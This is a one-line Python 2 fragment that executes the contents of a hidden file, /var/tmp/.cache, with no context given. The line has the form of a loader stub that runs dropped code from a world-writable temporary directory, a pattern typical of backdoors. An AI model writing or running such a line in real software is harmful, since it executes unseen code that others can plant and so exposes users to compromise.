execfile('/var/tmp/.cache')
